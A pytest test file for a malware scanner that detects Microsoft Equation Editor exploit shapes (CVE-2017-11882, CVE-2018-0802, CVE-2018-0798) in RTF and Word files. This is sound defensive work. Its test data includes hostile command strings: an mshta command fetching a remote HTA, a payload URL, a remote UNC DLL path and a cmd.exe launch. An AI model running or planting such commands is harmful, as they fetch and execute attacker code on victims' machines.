"""Equation Editor objects: identification, EQNOLEFILEHDR + MTEF parsing, exploit shapes,
recovery from damaged storages, and the findings they give.

Fixtures come from corpus/equationwriter.py (harmless record shapes, no machine code) on top
of corpus/cfbwriter.py.
"""

from __future__ import annotations

import struct
import time

import docwriter
import equationwriter as ew
import pytest
from cfbwriter import write_cfb
from conftest import OLETOOLS
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scanner.api import scan_bytes, scan_path
from scanner.equation import (
    CVE_2017_11882,
    CVE_2018_0798,
    CVE_2018_0802,
    WINEXEC_CALL_ADDRESS,
    ObjectContext,
    Server,
    analyze_equation_data,
    command_in,
    find_indicators,
    inspect_object,
    parse_compobj,
    parse_header,
    parse_mtef,
    parse_ole1,
    recover,
    scan_compound_objects,
)
from scanner.formats.base import ByteBudget, ScanContext
from scanner.formats.cfb import open_cfb
from scanner.model import Finding, Location, ProblemKind, ScanConfig, Severity, Technique, Verdict

LIMIT = 1 << 24
EXPLOIT = ew.cve_2017_11882_mtef()


def ctx(name: str = "doc") -> ScanContext:
    config = ScanConfig()
    return ScanContext(
        config=config,
        location=Location((name,)),
        host=None,
        depth=0,
        deadline=time.monotonic() + 60,
        budget=ByteBudget(config.limits.max_total_bytes),
    )


def rtf_with(obj: bytes, objclass: str = "Equation.3") -> bytes:
    return (
        rb"{\rtf1{\object\objemb\objupdate{\*\objclass " + objclass.encode() + rb"}{\*\objdata "
        + ew.hex_lines(obj).encode()
        + b"}}}"
    )  # fmt: skip


def only_finding(data: bytes, name: str = "x.rtf") -> Finding:
    report = scan_bytes(data, name)
    assert len(report.findings) == 1, report
    return report.findings[0]


def test_parse_ole1_embedded_object() -> None:
    native = b"\xd0\xcf\x11\xe0" + b"x" * 20
    obj = parse_ole1(ew.ole1_object("Equation.3", native))
    assert obj is not None
    assert (obj.ole_version, obj.format_id, obj.class_name) == (0x501, 2, "Equation.3")
    assert (obj.topic, obj.item, obj.declared_size, obj.native) == ("", "", 24, native)
    assert obj.truncated is False


def test_parse_ole1_truncated_and_rejected() -> None:
    full = ew.ole1_object("Equation.3", b"A" * 100)
    obj = parse_ole1(full[:-60])
    assert obj is not None and obj.truncated and len(obj.native) == 40
    assert parse_ole1(b"\x01\x05\x00\x00\x07\x00\x00\x00") is None  # FormatID 7
    assert parse_ole1(struct.pack("<III", 0x501, 2, 5000)) is None  # absurd class length
    assert parse_ole1(b"") is None


def test_parse_compobj() -> None:
    data = ew.compobj(ew.CLSID_EQUATION3, "Microsoft Equation 3.0", "Equation.3")
    assert parse_compobj(data) == (ew.CLSID_EQUATION3, "Microsoft Equation 3.0", "Equation.3")
    assert parse_compobj(b"") == ("", "", "")


def test_parse_header_and_benign_mtef() -> None:
    native = ew.equation_native(ew.benign_mtef())
    header = parse_header(native)
    assert header is not None
    assert (header.cb_hdr, header.version, header.cb_object) == (
        28,
        0x00020000,
        len(ew.benign_mtef()),
    )
    mtef = parse_mtef(native, 28)
    assert mtef is not None
    assert (mtef.version, mtef.platform, mtef.product) == (3, 1, 1)
    assert mtef.problem == ""
    assert [font.name for font in mtef.fonts] == [b"Times New Roman", b"Symbol"]
    assert mtef.records == 18
    assert mtef.end == len(native)
    assert mtef.describe() == "MTEF v3 (Windows, Equation Editor 3.10)"


def test_parse_mtef_reports_truncation_and_unknown_records() -> None:
    cut = parse_mtef(ew.benign_mtef()[:-6])
    assert cut is not None and cut.problem.endswith("is cut short by the end of the data")
    unknown = parse_mtef(ew.mtef_header() + b"\x01\x0f\x00\x00")
    assert unknown is not None
    assert unknown.problem == "record type 15 at offset 6 is not defined by MTEF v3"
    unclosed = parse_mtef(ew.mtef_header() + b"\x0a\x01")
    assert unclosed is not None
    assert unclosed.problem == "the data ends before the equation's closing END record"


def test_parse_mtef_nudges_rulers_and_sizes() -> None:
    nudged_char = b"\x82" + b"\x80\x80" + b"\x10\x00\x20\x00" + b"\x83" + b"x\x00"
    pile = b"\x24\x01\x01" + b"\x07\x01\x00\x10\x00" + b"\x01\x00" + b"\x00"
    sizes = b"\x09\x65\x0c\x00" + b"\x09\x64\x01\x0c\x00" + b"\x09\x02\x80"
    data = ew.mtef_header() + sizes + b"\x01" + nudged_char + pile + b"\x00\x00"
    mtef = parse_mtef(data)
    assert mtef is not None
    assert mtef.problem == ""
    # 3 SIZE, LINE, CHAR, PILE (with its RULER), LINE, then 4 ENDs: line, pile, line, top.
    assert mtef.records == 11
    assert mtef.end == len(data)


def test_parse_mtef_rejects_non_mtef_and_stops_at_v5() -> None:
    assert parse_mtef(b"\x07\x01\x01\x03\x0a") is None
    assert parse_mtef(b"\x03\x05\x01\x03\x0a") is None
    assert parse_mtef(b"\x03\x01") is None
    mathtype = parse_mtef(ew.mathtype_mtef())
    assert mathtype is not None and mathtype.version == 5 and mathtype.records == 0


def test_cve_2017_11882_shape_with_winexec_address() -> None:
    data = analyze_equation_data(
        ew.equation_native(ew.cve_2017_11882_mtef(address=WINEXEC_CALL_ADDRESS)), "stream"
    )
    (shape,) = data.shapes
    assert shape.cve == CVE_2017_11882
    assert shape.record == "FONT"
    assert shape.offset == 35
    assert shape.command == "cmd.exe /c calc.exe"
    assert "0x00430c12, EQNEDT32.EXE's own call to WinExec" in shape.summary


def test_cve_2017_11882_shape_with_placeholder_address() -> None:
    (shape,) = analyze_equation_data(ew.equation_native(EXPLOIT), "stream").shapes
    assert "with 0x41414141, not the WinExec call" in shape.summary
    assert shape.raw.endswith('name (48 bytes) "cmd.exe /c calc.exe' + " " * 25 + 'AAAA"')


def test_font_name_lengths_around_the_limit() -> None:
    def shapes(name: bytes) -> list[str]:
        mtef = ew.mtef_header() + b"\x0a\x01" + ew.font(name) + b"\x00\x00"
        return [s.cve for s in analyze_equation_data(ew.equation_native(mtef), "s").shapes]

    assert shapes(b"A" * 31) == []
    assert shapes(b"A" * 32) == [CVE_2017_11882]
    assert shapes(b"A" * 0x7F) == [CVE_2017_11882]
    assert shapes(b"A" * 0x80) == [CVE_2018_0802]


def test_cve_2018_0802_shape_and_url_indicator() -> None:
    data = analyze_equation_data(ew.equation_native(ew.cve_2018_0802_mtef()), "stream")
    (shape,) = data.shapes
    assert shape.cve == CVE_2018_0802
    assert shape.command == ""
    assert "(41 41)" in shape.summary
    assert data.indicators == ("http://example.invalid/payload.exe",)


def test_cve_2018_0798_matrix_shape() -> None:
    data = analyze_equation_data(ew.equation_native(ew.cve_2018_0798_mtef()), "stream")
    (shape,) = data.shapes
    assert shape.cve == CVE_2018_0798
    assert shape.record == "MATRIX"
    assert "claims 68 rows and 96 columns" in shape.summary
    assert "43 partition bytes" in shape.summary
    assert data.mtef is not None and data.mtef.problem == ""


def test_ordinary_matrix_is_no_shape() -> None:
    matrix = bytes([5, 0, 0, 0, 2, 2, 0, 0]) + ew.line(ew.char("a")) * 4 + b"\x00"
    mtef = ew.mtef_header() + b"\x0a" + ew.line(matrix) + b"\x00"
    data = analyze_equation_data(ew.equation_native(mtef), "stream")
    assert data.shapes == ()
    assert data.anomalies == ()


@pytest.mark.parametrize(
    ("raw", "command"),
    [
        (b"cmd.exe /c calc.exe" + b" " * 10 + b"AAAA", "cmd.exe /c calc.exe"),
        (b"cmd.exe /c calc.exe &AAAAAAAAAAAA", "cmd.exe /c calc.exe"),
        (b"mshta http://203.0.113.5/a.hta\x00\x00", "mshta http://203.0.113.5/a.hta"),
        (b"c:\\windows\\system32\\cmd.exe /c notepad", "c:\\windows\\system32\\cmd.exe /c notepad"),
        (b"Times New Roman", ""),
        (b"\x90\x90\xeb\x10", ""),
    ],
)
def test_command_in(raw: bytes, command: str) -> None:
    assert command_in(raw) == command


def test_find_indicators() -> None:
    data = b"\x00http://example.invalid/x.hta\x00\\\\203.0.113.9\\share\\a.dll\x00 run.vbs;"
    assert find_indicators(data) == (
        "http://example.invalid/x.hta",
        "\\\\203.0.113.9\\share\\a.dll",
        "run.vbs",
    )
    assert find_indicators(ew.equation_native(ew.benign_mtef())) == ()


def test_inspect_storage_object() -> None:
    (obj,) = inspect_object(ew.equation_storage(EXPLOIT), LIMIT)
    assert obj.server is Server.EQUATION_EDITOR
    assert obj.where == "Equation Native"
    assert [label.text for label in obj.labels] == [
        "storage CLSID 0002CE02-0000-0000-C000-000000000046 (Microsoft Equation 3.0)",
        'CompObj ProgID "Equation.3"',
    ]


def test_inspect_ole1_object_in_rtf_terms() -> None:
    (obj,) = inspect_object(
        ew.ole1_object("EQUATION.3", ew.equation_storage(EXPLOIT)), LIMIT, ole1=True
    )
    assert obj.server is Server.EQUATION_EDITOR
    assert obj.labels[0].text == 'OLE1 class name "EQUATION.3"'
    assert obj.steps[0].startswith('OLE1 embedded object of class "EQUATION.3"')


def test_unlabelled_storage_is_identified_by_its_mtef() -> None:
    storage = write_cfb({"Equation Native": ew.equation_native(ew.benign_mtef())})
    (obj,) = inspect_object(storage, LIMIT)
    assert obj.labels == ()
    assert obj.server is Server.EQUATION_EDITOR


def test_mathtype_is_not_equation_editor() -> None:
    storage = ew.equation_storage(
        ew.mathtype_mtef(), clsid=ew.CLSID_MATHTYPE, progid="Equation.DSMT4", user_type="MathType"
    )
    (obj,) = inspect_object(ew.ole1_object("Equation.DSMT4", storage), LIMIT, ole1=True)
    assert obj.server is Server.MATHTYPE
    report = scan_bytes(rtf_with(ew.ole1_object("Equation.DSMT4", storage), "Equation.DSMT4"))
    assert report.verdict is Verdict.CLEAN
    assert report.findings == ()


def test_other_ole1_objects_are_ignored() -> None:
    package = ew.ole1_object("Package", b"\x02\x00hello.txt\x00")
    assert inspect_object(package, LIMIT, ole1=True) == ()
    assert scan_bytes(rtf_with(package, "Package")).findings == ()


def test_damaged_storage_is_recovered_from_raw_bytes() -> None:
    storage = bytearray(ew.equation_storage(EXPLOIT))
    storage[0x4C:0x50] = (0x00FFFF00).to_bytes(4, "little")
    (obj,) = inspect_object(bytes(storage), LIMIT)
    assert obj.server is Server.EQUATION_EDITOR
    assert obj.where.startswith("equation data recovered at byte ")
    assert obj.problems[0].startswith("its OLE2 storage cannot be opened")
    assert obj.equation is not None
    assert [shape.cve for shape in obj.equation.shapes] == [CVE_2017_11882]
    assert "CLSID 0002CE02-0000-0000-C000-000000000046 (Microsoft Equation 3.0) in the raw " in (
        " ".join(label.text for label in obj.labels)
    )


def test_recover_from_raw_equation_native_bytes() -> None:
    blob = b"junk" * 10 + ew.equation_native(EXPLOIT) + b"more"
    (obj,) = recover(blob)
    assert obj.where == "equation data recovered at byte 40"
    assert obj.server is Server.EQUATION_EDITOR
    assert recover(b"\x1c\x00\x00\x00\x02\x00" + b"\xff" * 40) == ()
    assert recover(b"nothing here") == ()


def test_storage_labelled_equation_without_stream() -> None:
    storage = ew.set_clsid(write_cfb({"\x01Ole": ew.OLE_STREAM}), "Root Entry", ew.CLSID_EQUATION3)
    (obj,) = inspect_object(storage, LIMIT)
    assert obj.server is Server.EQUATION_EDITOR
    assert obj.equation is None
    assert obj.problems == ("the storage has no 'Equation Native' stream",)


def test_exploit_finding_fields() -> None:
    finding = only_finding(rtf_with(ew.ole1_object("Equation.3", ew.equation_storage(EXPLOIT))))
    assert finding.technique is Technique.EQUATION_EDITOR
    assert (finding.severity, finding.verdict) == (Severity.CRITICAL, Verdict.MALICIOUS)
    assert finding.cves == (CVE_2017_11882,)
    assert finding.attack_ids == ("T1559.002", "T1203")
    assert finding.dde is None
    assert finding.process.parent == "EQNEDT32.EXE"
    assert finding.process.image == "cmd.exe"
    assert finding.process.command_line == "cmd.exe /c calc.exe"
    assert finding.kql.is_dde_equation_editor is True
    assert finding.kql.would_alert is True
    assert finding.kql.is_office_spawn is False
    assert finding.title == "CVE-2017-11882: EQNEDT32.EXE -> cmd.exe"
    assert finding.evidence.deobfuscated == "cmd.exe /c calc.exe"
    assert "(\\objupdate)" in finding.explanation
    assert "IsDDE_EquationEditor" in finding.explanation


def test_benign_equation_finding_is_low_with_no_exploit_claim() -> None:
    storage = ew.equation_storage(ew.benign_mtef())
    finding = only_finding(rtf_with(ew.ole1_object("Equation.3", storage)))
    assert (finding.severity, finding.verdict) == (Severity.LOW, Verdict.SUSPICIOUS)
    assert finding.cves == ()
    assert finding.attack_ids == ("T1559.002",)
    assert finding.process.image == ""
    assert finding.process.command_line == ""
    assert finding.process.steps == ("no command line is visible in the equation data",)
    assert finding.kql.is_dde_equation_editor is True
    assert "no exploit is claimed" in finding.explanation
    assert "January 2018" in finding.explanation
    assert finding.title == "Equation Editor object: EQNEDT32.EXE -> (no command visible)"


def test_lying_objclass_raises_a_benign_equation_to_medium() -> None:
    storage = ew.equation_storage(ew.benign_mtef())
    finding = only_finding(rtf_with(ew.ole1_object("Equation.3", storage), "Word.Document.8"))
    assert (finding.severity, finding.verdict) == (Severity.MEDIUM, Verdict.SUSPICIOUS)
    assert 'declares it as "Word.Document.8" (\\objclass)' in finding.explanation


def test_command_without_exploit_shape_is_high() -> None:
    mtef = ew.benign_mtef() + b"http://example.invalid/run.hta"
    storage = ew.equation_storage(mtef)
    finding = only_finding(rtf_with(ew.ole1_object("Equation.3", storage)))
    assert (finding.severity, finding.verdict) == (Severity.HIGH, Verdict.MALICIOUS)
    assert finding.cves == ()
    assert "names http://example.invalid/run.hta" in finding.explanation


def test_truncated_object_is_medium() -> None:
    full = ew.ole1_object("Equation.3", ew.equation_storage(EXPLOIT))
    finding = only_finding(rtf_with(full[: full.index(b"\xd0\xcf\x11\xe0") + 8]))
    assert (finding.severity, finding.verdict) == (Severity.MEDIUM, Verdict.SUSPICIOUS)
    assert "its native data is truncated (8 of 2560 bytes)" in finding.explanation


def test_object_pool_of_a_doc_via_compound_hook() -> None:
    streams = docwriter.word_streams(docwriter.Stories("Formula below.\r"))
    streams.update(
        {
            "ObjectPool/_1234/\x01CompObj": ew.compobj(
                ew.CLSID_EQUATION3, "Microsoft Equation 3.0", "Equation.3"
            ),
            "ObjectPool/_1234/\x01Ole": ew.OLE_STREAM,
            "ObjectPool/_1234/Equation Native": ew.equation_native(EXPLOIT),
        }
    )
    data = ew.set_clsid(write_cfb(streams), "_1234", ew.CLSID_EQUATION3)
    scan = ctx("invoice.doc")
    ole = open_cfb(data)
    items = list(scan_compound_objects(ole, scan))
    ole.close()
    assert len(items) == 1 and isinstance(items[0], Finding)
    finding = items[0]
    assert finding.location.display() == "invoice.doc (ObjectPool/_1234/Equation Native)"
    assert finding.cves == (CVE_2017_11882,)
    assert finding.evidence.steps[0] == (
        "identified by storage 'ObjectPool/_1234' CLSID 0002CE02-0000-0000-C000-000000000046 "
        "(Microsoft Equation 3.0)"
    )


def test_object_context_declared_progid_in_ooxml_terms() -> None:
    context = ObjectContext(trigger="when activated", declared_class="Equation.3")
    objects = inspect_object(ew.equation_storage(ew.benign_mtef()), LIMIT)
    from scanner.equation import equation_findings

    (finding,) = equation_findings(objects, Location(("a.docx", "word/embeddings/o.bin")), context)
    assert finding.severity is Severity.LOW
    assert finding.location.display() == "a.docx > word/embeddings/o.bin (Equation Native)"


@pytest.mark.skipif(not (OLETOOLS / "rtfobj").is_dir(), reason="oletools test files absent")
def test_oletools_issue_251_stub_is_a_suspicious_equation_object() -> None:
    report = scan_path(OLETOOLS / "rtfobj" / "issue_251.rtf")
    assert report.verdict is Verdict.SUSPICIOUS
    (finding,) = report.findings
    assert finding.severity is Severity.MEDIUM
    assert finding.process.parent == "EQNEDT32.EXE"
    assert finding.cves == ()
    assert finding.location.detail == "object 1 (\\objdata at byte 895)"
    assert "its native data is truncated (8 of 3072 bytes)" in finding.explanation


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400))
def test_parsers_never_raise_on_arbitrary_bytes(data: bytes) -> None:
    parse_ole1(data)
    parse_compobj(data)
    parse_mtef(data)
    analyze_equation_data(data, "fuzz")
    recover(data)
    inspect_object(data, LIMIT, ole1=True)


_OLE1_EXPLOIT = ew.ole1_object("Equation.3", ew.equation_storage(EXPLOIT))


@settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(
    st.lists(
        st.tuples(st.integers(0, len(_OLE1_EXPLOIT) - 1), st.integers(0, 255)),
        min_size=1,
        max_size=12,
    ),
    st.integers(40, len(_OLE1_EXPLOIT)),
)
def test_mutated_objects_never_crash_or_hang(edits: list[tuple[int, int]], keep: int) -> None:
    mutated = bytearray(_OLE1_EXPLOIT)
    for position, value in edits:
        mutated[position] = value
    data = rtf_with(bytes(mutated[:keep]))
    started = time.monotonic()
    report = scan_bytes(data, "mutated.rtf")
    assert time.monotonic() - started < 5
    assert all(problem.kind is not ProblemKind.INTERNAL for problem in report.problems)
    for finding in report.findings:
        assert finding.process.parent == "EQNEDT32.EXE"
